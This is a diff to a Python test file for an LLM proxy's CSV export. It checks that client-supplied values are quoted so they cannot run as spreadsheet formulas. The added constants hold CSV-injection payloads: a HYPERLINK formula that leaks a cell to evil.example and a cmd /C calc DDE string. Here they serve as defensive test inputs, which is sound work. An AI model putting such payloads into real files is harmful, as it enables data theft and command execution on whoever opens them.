@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import time
 from pathlib import Path
 
 import pytest
@@ -11,7 +12,8 @@ from openai.types.chat import ChatCompletionMessageParam
 from pydantic import TypeAdapter
 
 from proxy.__main__ import main
-from proxy.testing import LiveProxy
+from proxy.observe.export import spreadsheet_safe
+from proxy.testing import LiveProxy, insert_entries, sample_entry
 from tests.test_chat_e2e import WEATHER_TOOL
 
 SYSTEM = {"role": "system", "content": "You are terse."}
@@ -94,6 +96,36 @@ def test_csv_has_one_row_per_ledger_row(logged: tuple[Path, list[str]], tmp_path
     assert [r["tenant"] for r in rows] == ["alice", "alice", "bob"]
     assert all(float(r["cost_usd"]) > 0 for r in rows)
     assert {"baseline_usd", "prompt_hash", "latency_ms", "stage"} <= set(rows[0])
+
+
+FORMULA_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_csv_cells_a_client_controls_cannot_run_as_formulas(tmp_path: Path) -> None:
+    with LiveProxy(tmp_path) as live:
+        live.client().chat.completions.create(
+            model=FORMULA_MODEL, messages=[{"role": "user", "content": "hi"}],
+            extra_headers={"x-request-id": FORMULA_ID})
+        insert_entries(live, [sample_entry(ts=time.time(), status=500, error="+1-2\tboom")])
+        sent_model = live.fake.received[0]["model"]
+    out = tmp_path / "ledger.csv"
+    assert _export(_config_file(tmp_path), out, "--format", "csv") == 0
+    rows = list(csv.DictReader(out.open(newline="")))
+    assert sent_model == FORMULA_MODEL
+    assert (rows[0]["request_id"], rows[0]["requested_model"]) == ("'" + FORMULA_ID,
+                                                                   "'" + FORMULA_MODEL)
+    assert rows[1]["error"] == "'+1-2\tboom"
+    assert float(rows[0]["cost_usd"]) > 0  # numbers stay numbers
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("gpt-4o", "gpt-4o"), ("a=b", "a=b"), ("", ""), (-1.5, -1.5), (3, 3),
+    (None, None),
+])
+def test_spreadsheet_safe_quotes_only_formula_starts(cell: object, written: object) -> None:
+    assert spreadsheet_safe(cell) == written
 
 
 def test_export_window_excludes_other_days(logged: tuple[Path, list[str]],
